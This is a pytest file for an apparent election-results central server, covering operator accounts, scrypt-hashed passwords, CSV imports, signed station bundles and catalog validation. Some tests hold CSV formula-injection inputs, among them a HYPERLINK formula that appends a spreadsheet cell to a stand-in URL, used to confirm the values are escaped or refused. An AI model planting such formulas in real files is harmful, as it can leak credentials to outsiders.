"""Operator accounts, catalog versions, the station bundle and the station health table
at the central (real subprocess and PostgreSQL; a bare station signs its requests)."""

from __future__ import annotations

import csv
import hashlib
import json
import stat
import subprocess
import sys
from datetime import UTC
from datetime import datetime
from datetime import timedelta
from pathlib import Path

import pytest

from central.db import make_engine
from central.stations.operators import MAX_FILE_BYTES
from central.stations.operators import MAX_FILE_ROWS
from central.stations.operators import OperatorFileError
from central.stations.operators import add_operator
from central.stations.operators import parse_operator_file
from prep.bundle import BUNDLE_PATH
from prep.bundle import read_bundle
from prep.catalog import generate_catalog
from prep.catalog import write_catalog
from prep.passwords import ScryptHash
from prep.records import Kind
from tests.central.station import Station
from tests.central.station import central_cli
from tests.central.station import error_of
from tests.central.station import query
from tests.harness.central import REPO
from tests.harness.central import CentralNode
from tests.harness.coordinador import coordinador

PASSWORD = "contraseña-larga-1"


def _add_cli(node: CentralNode, name: str, role: str, *site: str,
             password: str = PASSWORD) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "prep", "central", "operator", "add",
                           "--data-dir", str(node.data_dir), "--dsn", node.dsn, "--name", name,
                           "--role", role, *site, "--password-stdin"], cwd=REPO,
                          input=password + "\n", capture_output=True, text=True, timeout=60,
                          check=False)


def _add(node: CentralNode, name: str, role: str, sitio: str) -> str:
    engine = make_engine(node.dsn, pool_size=1)
    try:
        return add_operator(engine, name, role, sitio, PASSWORD, actor="pruebas").id
    finally:
        engine.dispose()


def _import_cli(node: CentralNode, rows: str | bytes, tmp_path: Path
                ) -> tuple[subprocess.CompletedProcess[str], Path]:
    """``operator import`` of a CSV with ``rows``; also the credentials path it was given."""
    source = tmp_path / "operadores.csv"
    if isinstance(rows, str):
        rows = rows.encode()
    source.write_bytes(rows)
    out = tmp_path / "credenciales.csv"
    return central_cli(node, "operator", "import", str(source), "--credenciales",
                       str(out)), out


def _bundle(station: Station, held: str | None = None) -> tuple[int, bytes]:
    headers = station.signed("GET", BUNDLE_PATH, hashlib.sha256().hexdigest())
    if held is not None:
        headers["If-None-Match"] = f'"{held}"'
    return station.node.request("GET", BUNDLE_PATH, b"", headers)


def test_operator_add_stores_an_scrypt_hash_never_the_password(
        shared_central: CentralNode) -> None:
    done = _add_cli(shared_central, "  Mariana   López ", "capturista", "--catd", "7")

    assert done.returncode == 0, done.stderr
    created = json.loads(done.stdout)
    assert created["id"] == "op-07-mariana-lopez" and created["name"] == "Mariana López"
    [(salt, n, r, p, digest, enabled)] = query(
        shared_central.dsn, "SELECT scrypt_salt, scrypt_n, scrypt_r, scrypt_p, scrypt_hash, "
        "enabled FROM operators WHERE id = %s", created["id"])
    assert (n, r, p, len(salt), len(digest), enabled) == (2**14, 8, 1, 16, 32, True)
    assert hashlib.scrypt(PASSWORD.encode(), salt=salt, n=n, r=r, p=p, dklen=32) == digest
    # The password is nowhere: not in the row, the audit log, or what was printed.
    assert PASSWORD.encode() not in bytes(salt) + bytes(digest)
    audit = query(shared_central.dsn, "SELECT detail::text FROM audit_log WHERE event = "
                  "'operator_created' AND detail->>'id' = %s", created["id"])
    assert len(audit) == 1 and PASSWORD not in audit[0][0]
    assert PASSWORD not in done.stdout + done.stderr

    # Same name at the same site (any case) → refused; elsewhere it is another person.
    again = _add_cli(shared_central, "MARIANA LÓPEZ", "verificador", "--catd", "7")
    assert again.returncode == 2 and "ya existe" in again.stderr
    elsewhere = _add_cli(shared_central, "Mariana López", "capturista", "--ccv")
    assert elsewhere.returncode == 0, elsewhere.stderr
    assert json.loads(elsewhere.stdout)["id"] == "op-ccv-mariana-lopez"

    listed = central_cli(shared_central, "operator", "list", "--catd", "7")
    assert listed.returncode == 0, listed.stderr
    row = next(o for o in json.loads(listed.stdout) if o["id"] == created["id"])
    assert "scrypt" not in json.dumps(row) and row["role"] == "capturista"


@pytest.mark.parametrize(("args", "password", "message"), [
    (("--role", "capturista", "--catd", "7"), "corta", "al menos 10 caracteres"),
    (("--role", "acopiador", "--ccv"), PASSWORD, "trabaja en un CATD"),
    (("--role", "capturista", "--central"), PASSWORD, "trabaja en un CATD (--catd N) o el CCV"),
])
def test_operator_add_refuses_short_passwords_and_wrong_sites(
        shared_central: CentralNode, args: tuple[str, ...], password: str,
        message: str) -> None:
    done = _add_cli(shared_central, "Persona Rechazada", args[1], *args[2:],
                    password=password)
    assert done.returncode == 2 and message in done.stderr, done.stderr
    assert not query(shared_central.dsn, "SELECT id FROM operators WHERE name = %s",
                     "Persona Rechazada")


def test_a_stations_bundle_holds_only_its_sites_operators(shared_central: CentralNode) -> None:
    mine = {_add(shared_central, f"Acopiador {i}", "acopiador", "09") for i in range(2)}
    _add(shared_central, "Capturista del diez", "capturista", "10")
    ccv = _add(shared_central, "Verificadora CCV", "verificador", "CCV")
    boss = _add(shared_central, "Coordinadora", "coordinador", "CENTRAL")
    catd = Station.enroll(shared_central, catd=9)

    status, body = _bundle(catd)

    assert status == 200, body
    bundle = read_bundle(body, shared_central.central_key, catd.id, "09")
    assert {o.id for o in bundle.operators} == mine
    assert all(o.sitio == "09" and o.enabled and o.scrypt is not None for o in bundle.operators)
    ccv_station = Station.enroll(shared_central, catd=None, role="ccv")
    ccv_bundle = read_bundle(_bundle(ccv_station)[1], shared_central.central_key,
                             ccv_station.id, "CCV")
    assert ccv in {o.id for o in ccv_bundle.operators}
    assert boss not in {o.id for o in ccv_bundle.operators}
    assert {o.sitio for o in ccv_bundle.operators} == {"CCV"}

    # The content held (its hash) → 304 and no body; an unsigned request → 401.
    assert _bundle(catd, held=bundle.etag) == (304, b"")
    status, body = shared_central.request("GET", BUNDLE_PATH)
    assert status == 401 and error_of(body)[0] == "unauthenticated"
    [(held,)] = query(shared_central.dsn, "SELECT bundle_version FROM station_health "
                      "WHERE station = %s", catd.id)
    assert held == bundle.version


def test_disabling_an_operator_bumps_the_bundle_version(shared_central: CentralNode) -> None:
    operator = _add(shared_central, "Digitalizador once", "digitalizador", "11")
    station = Station.enroll(shared_central, catd=11)
    before = read_bundle(_bundle(station)[1], shared_central.central_key, station.id, "11")

    done = central_cli(shared_central, "operator", "disable", operator, coordinador=True)

    assert done.returncode == 0, done.stderr
    status, body = _bundle(station, held=before.etag)
    assert status == 200
    after = read_bundle(body, shared_central.central_key, station.id, "11")
    assert after.version > before.version
    [disabled] = [o for o in after.operators if o.id == operator]
    assert not disabled.enabled and disabled.scrypt is None  # no hash to guess offline
    assert query(shared_central.dsn, "SELECT count(*) FROM audit_log WHERE event = "
                 "'operator_disabled' AND detail->>'id' = %s", operator) == [(1,)]


def test_a_bundle_with_other_content_never_gets_304_for_the_held_version(
        shared_central: CentralNode) -> None:
    """Issue 62: the bundle's version is a sum of counters, and after a restore to an
    earlier point other content reaches the same sum. The ETag is the content's hash:
    the station gets the bundle that disables the operator, not a 304."""
    coordinador(shared_central.dsn)  # before the held bundle: the sum below stays
    operator = _add(shared_central, "Capturista doce", "capturista", "12")
    station = Station.enroll(shared_central, catd=12)
    elsewhere = _add(shared_central, "Acopiador trece", "acopiador", "13")
    held = read_bundle(_bundle(station)[1], shared_central.central_key, station.id, "12")
    # The restore to before «elsewhere» was created: its row, and the counter with it,
    # are gone (the database's owner does what the restore does).
    assert query(shared_central.dsn, "DELETE FROM operators WHERE id = %s RETURNING id",
                 elsewhere) == [(elsewhere,)]
    done = central_cli(shared_central, "operator", "disable", operator, coordinador=True)
    assert done.returncode == 0, done.stderr

    status, body = _bundle(station, held=held.etag)

    assert status == 200, "304: the station would keep an operator the central disabled"
    now = read_bundle(body, shared_central.central_key, station.id, "12")
    assert now.version == held.version and now.etag != held.etag  # same sum, other content
    [disabled] = [o for o in now.operators if o.id == operator]
    assert not disabled.enabled and disabled.scrypt is None


def test_an_invalid_catalog_is_refused_and_audited(shared_central: CentralNode,
                                                   tmp_path: Path) -> None:
    write_catalog(generate_catalog(7, 0.01), tmp_path / "cat")
    casillas = tmp_path / "cat" / "casillas.csv"
    casillas.write_text(casillas.read_text().replace(",B,", ",Q,", 1))

    done = central_cli(shared_central, "catalog", "load", str(tmp_path / "cat"))

    assert done.returncode == 2 and "casillas.csv: línea" in done.stderr, done.stderr
    assert query(shared_central.dsn, "SELECT count(*) FROM audit_log WHERE event = "
                 "'catalog_refused' AND detail->>'source' = %s",
                 str(tmp_path / "cat")) == [(1,)]


def test_heartbeats_fill_the_station_health_table(shared_central: CentralNode) -> None:
    station = Station.enroll(shared_central, catd=12)
    heartbeat = {"version": "9.8.7", "backlog": 42, "backlog_bytes": 123456,
                 "last_error": "Sin conexión con el nodo central"}
    _, body = station.batch(station.records(2) + station.records(1, Kind.HEARTBEAT, heartbeat))
    assert station.post(body, clock=datetime.now(UTC) + timedelta(minutes=5))[0] == 200
    [(skew, version)] = query(shared_central.dsn, "SELECT clock_skew_seconds, version FROM "
                              "station_health WHERE station = %s", station.id)
    assert 290 < skew < 310 and version == "9.8.7"

    _, body = station.batch(station.records(1))  # no heartbeat: contact and clock only
    assert station.post(body, clock=datetime.now(UTC))[0] == 200
    done = central_cli(shared_central, "stations")

    assert done.returncode == 0, done.stderr
    [row] = [r for r in json.loads(done.stdout) if r["station"] == station.id]
    assert (row["version"], row["backlog"], row["backlog_bytes"]) == ("9.8.7", 42, 123456)
    assert row["last_error"] == "Sin conexión con el nodo central"
    assert row["last_batch"] == 2 and row["sitio"] == "12" and row["last_seen"]
    assert abs(row["clock_skew_seconds"]) < 30  # the latest batch's clock was right


def test_operator_import_creates_every_account_with_a_password_for_its_envelope(
        shared_central: CentralNode, tmp_path: Path) -> None:
    node = shared_central
    # As a spreadsheet saves it: BOM, CRLF, columns in its own order and case.
    rows = ("\ufeffRol,Nombre,Sitio\r\n"
            "acopiador,Importada Acopiadora,31\r\n"
            "Capturista,  Importado   Capturista ,031\r\n"
            "verificador,Importada Verificadora,ccv\r\n"
            "coordinador,Importado Coordinador,CENTRAL\r\n"
            "digitalizador,Importada Digitalizadora,32\r\n")

    done, out = _import_cli(node, rows, tmp_path)

    assert done.returncode == 0, done.stderr
    created = json.loads(done.stdout)
    assert [(o["id"], o["role"], o["sitio"]) for o in created] == [
        ("op-31-importada-acopiadora", "acopiador", "31"),
        ("op-31-importado-capturista", "capturista", "31"),
        ("op-ccv-importada-verificadora", "verificador", "CCV"),
        ("op-central-importado-coordinador", "coordinador", "CENTRAL"),
        ("op-32-importada-digitalizadora", "digitalizador", "32")]
    revisions = [o["revision"] for o in created]
    assert revisions == list(range(revisions[0], revisions[0] + 5))  # one per account
    assert f"5 operadores dados de alta; contraseñas en {out}" in done.stderr

    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with out.open(encoding="utf-8-sig", newline="") as f:
        envelopes = list(csv.DictReader(f))
    assert [(e["id"], e["nombre"], e["rol"], e["sitio"]) for e in envelopes] == [
        (o["id"], o["name"], o["role"], o["sitio"]) for o in created]
    passwords = {e["id"]: e["contrasena"] for e in envelopes}
    assert len(set(passwords.values())) == 5
    for operator_id, password in passwords.items():
        [(salt, n, r, p, digest)] = query(node.dsn, "SELECT scrypt_salt, scrypt_n, scrypt_r, "
                                          "scrypt_p, scrypt_hash FROM operators WHERE id = %s",
                                          operator_id)
        assert ScryptHash(salt, n, r, p, digest).matches(password)
        assert password not in done.stdout + done.stderr
        [(detail,)] = query(node.dsn, "SELECT detail FROM audit_log WHERE event = "
                            "'operator_created' AND detail->>'id' = %s", operator_id)
        [account] = [o for o in created if o["id"] == operator_id]
        assert detail == {k: account[k] for k in ("id", "name", "role", "sitio", "revision")}

    # The stations of a site receive its imported accounts, and the passwords open them.
    station = Station.enroll(node, catd=31)
    bundle = read_bundle(_bundle(station)[1], node.central_key, station.id, "31")
    assert bundle.operators_version >= revisions[-1]
    held = {o.id: o for o in bundle.operators}
    for operator_id in ("op-31-importada-acopiadora", "op-31-importado-capturista"):
        scrypt = held[operator_id].scrypt
        assert scrypt is not None and scrypt.matches(passwords[operator_id])


def test_operator_import_refuses_the_whole_file_naming_each_bad_line(
        shared_central: CentralNode, tmp_path: Path) -> None:
    done, out = _import_cli(shared_central, (
        "nombre,rol,sitio\n"
        "Rechazo Uno,capturista,33\n"
        "Rechazo Dos,capturador,33\n"
        "Rechazo Tres,capturista,cien\n"
        "RECHAZO  uno,verificador,33\n"
        "Rechazo Cuatro,acopiador,CCV\n"
        "Rechazo Cinco,digitalizador,33\n"), tmp_path)

    assert done.returncode == 1, done.stderr
    assert "no se dio de alta a nadie" in done.stderr
    for message in ("Línea 3: rol «capturador» desconocido; use uno de: acopiador, "
                    "digitalizador, capturista, verificador, coordinador",
                    "Línea 4: sitio «cien» no válido",
                    "Línea 5: «RECHAZO uno» ya aparece en la línea 2 para el CATD 33",
                    "Línea 6: el rol acopiador trabaja en un CATD"):
        assert message in done.stderr, done.stderr
    assert "Línea 2" not in done.stderr and "Línea 7" not in done.stderr
    assert not out.exists() and done.stdout == ""
    assert query(shared_central.dsn, "SELECT id FROM operators WHERE name ILIKE %s",
                 "rechazo %") == []


def test_operator_import_is_all_or_nothing_against_existing_accounts(
        shared_central: CentralNode, tmp_path: Path) -> None:
    node = shared_central
    existing = _add(node, "Ya Existente", "capturista", "34")
    [(version,)] = query(node.dsn, "SELECT max(revision) FROM operators")

    done, out = _import_cli(node, "nombre,rol,sitio\nNueva Persona,capturista,34\n"
                                  "YA EXISTENTE,verificador,34\n"
                                  "Ya Existente,verificador,35\n", tmp_path)

    assert done.returncode == 1, done.stderr
    assert (f"Línea 3: ya existe un operador «YA EXISTENTE» en el CATD 34 ({existing})"
            in done.stderr)
    assert not out.exists()
    assert query(node.dsn, "SELECT id FROM operators WHERE name IN ('Nueva Persona', "
                 "'Ya Existente') ORDER BY id") == [(existing,)]
    assert query(node.dsn, "SELECT max(revision) FROM operators") == [(version,)]
    assert query(node.dsn, "SELECT count(*) FROM audit_log WHERE event = 'operator_created' "
                 "AND detail->>'name' = 'Nueva Persona'") == [(0,)]


def test_operator_import_never_overwrites_a_credentials_file(
        shared_central: CentralNode, tmp_path: Path) -> None:
    (tmp_path / "credenciales.csv").write_text("contraseñas de ayer\n")

    done, out = _import_cli(shared_central, "nombre,rol,sitio\nSin Sobre,capturista,36\n",
                            tmp_path)

    assert done.returncode == 2 and "ya existe y no se sobrescribe" in done.stderr
    assert out.read_text() == "contraseñas de ayer\n"
    assert query(shared_central.dsn, "SELECT id FROM operators WHERE name = 'Sin Sobre'") == []


def test_operator_import_refuses_a_file_too_big(shared_central: CentralNode,
                                                tmp_path: Path) -> None:
    row = b"Persona Grande,capturista,37\n"
    rows = b"nombre,rol,sitio\n" + row * (MAX_FILE_BYTES // len(row) + 1)

    done, out = _import_cli(shared_central, rows, tmp_path)

    assert done.returncode == 1 and "el archivo pasa de 1024 KiB" in done.stderr
    assert not out.exists()
    assert query(shared_central.dsn, "SELECT id FROM operators WHERE name = "
                 "'Persona Grande'") == []


@pytest.mark.parametrize(("data", "message"), [
    (b"nombre,rol,sitio\n" + b"".join(b"Persona %d,capturista,7\n" % i
                                      for i in range(MAX_FILE_ROWS + 1)),
     f"Línea {MAX_FILE_ROWS + 2}: el archivo pasa de {MAX_FILE_ROWS} operadores"),
    (b"nombre,rol\nAna,capturista\n", "Línea 1: el encabezado debe ser «nombre,rol,sitio»"),
    (b"nombre,rol,sitio\n", "el archivo no tiene operadores"),
    (b"nombre,rol,sitio\nAna,capturista,7\nJos\xe9,capturista,7\n", "Línea 3: el archivo no "
     "es texto UTF-8"),
    (b'nombre,rol,sitio\n\n"Ana,capturista,7\n', "Línea 3: CSV mal formado"),
    (b"nombre,rol,sitio\nAna,capturista\n", "Línea 2: se esperaban 3 columnas"),
    (b"nombre,rol,sitio\n ,capturista,7\n", "Línea 2: el nombre del operador no puede"),
])
def test_an_unreadable_operator_file_is_refused(data: bytes, message: str) -> None:
    with pytest.raises(OperatorFileError) as refused:
        parse_operator_file(data)
    assert str(refused.value).startswith(message)


def test_an_operator_file_may_hold_a_whole_state() -> None:
    rows = parse_operator_file(b"nombre,rol,sitio\n" + b"".join(
        b"Persona %d,capturista,%d\n" % (i, i % 40 + 1) for i in range(MAX_FILE_ROWS)))
    assert len(rows) == MAX_FILE_ROWS and rows[-1].line == MAX_FILE_ROWS + 1


def test_a_catalog_name_that_would_start_a_formula_is_refused_at_load(
        shared_central: CentralNode, tmp_path: Path) -> None:
    """Issue 36: the central's catalog load uses the very validator of «prep catalog
    check», so no published CSV can carry a formula from the catalog."""
    write_catalog(generate_catalog(7, 0.01), tmp_path / "cat")
    candidaturas = tmp_path / "cat" / "candidaturas.csv"
    rows = candidaturas.read_text(encoding="utf-8").splitlines()
    cells = rows[3].split(",")
    cells[3] = '"=HYPERLINK(""https://example.invalid"",""Ver"")"'
    rows[3] = ",".join(cells)
    candidaturas.write_text("\n".join(rows) + "\n", encoding="utf-8")

    done = central_cli(shared_central, "catalog", "load", str(tmp_path / "cat"))

    assert done.returncode == 2, done.stderr
    assert "candidaturas.csv: línea 4: el campo PROPIETARIA" in done.stderr, done.stderr
    assert "empieza con «=»" in done.stderr


def test_a_coalition_with_three_persons_is_refused_at_load_and_audited(
        shared_central: CentralNode, tmp_path: Path) -> None:
    """Issue 61: the central's catalog load refuses, as «prep catalog check» does, a
    coalition whose parties name different persons in one contest."""
    directory = tmp_path / "cat"
    write_catalog(generate_catalog(7, 0.01), directory)
    path = directory / "candidaturas.csv"
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    for row, nombre in zip([r for r in rows if r[0] == "01" and r[2] in ("PRI", "PRD")],
                           ("Elena Torres Ríos", "Jorge Flores Cruz"), strict=True):
        row[3] = nombre
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(rows)

    done = central_cli(shared_central, "catalog", "load", str(directory))

    assert done.returncode == 2, done.stderr
    assert ("JEFATURA DE GOBIERNO (elección 01), toda la entidad: la coalición "
            "«Va por la Ciudad de México (PAN-PRI-PRD)» de PAN, PRI y PRD registra "
            "personas distintas") in done.stderr, done.stderr
    [(reason,)] = query(shared_central.dsn, "SELECT detail->>'reason' FROM audit_log WHERE "
                        "event = 'catalog_refused' AND detail->>'source' = %s", str(directory))
    assert "«Elena Torres Ríos»" in reason and "«Jorge Flores Cruz»" in reason


def test_the_envelopes_file_shows_formula_like_names_and_never_runs_them(
        shared_central: CentralNode, tmp_path: Path) -> None:
    """Issue 36: an operator named like a formula in operadores.csv is created with that
    name, and the credentials file a spreadsheet opens to print envelopes carries it
    behind an apostrophe."""
    names = ['=HYPERLINK("https://example.invalid/?p="&E2,"Sobre")', "+Formula Mas",
             "-Formula Menos", "@Formula Arroba", "Nombre Normal"]
    rows = "nombre,rol,sitio\n" + "".join(
        f'"{n.replace(chr(34), chr(34) * 2)}",capturista,33\n' for n in names)

    done, out = _import_cli(shared_central, rows, tmp_path)

    assert done.returncode == 0, done.stderr
    assert [o["name"] for o in json.loads(done.stdout)] == names
    with out.open(encoding="utf-8-sig", newline="") as f:
        envelopes = list(csv.DictReader(f))
    assert [e["nombre"] for e in envelopes] == [f"'{n}" for n in names[:4]] + [names[4]]
    assert all(not e[k].startswith(("=", "+", "-", "@")) for e in envelopes for k in e)
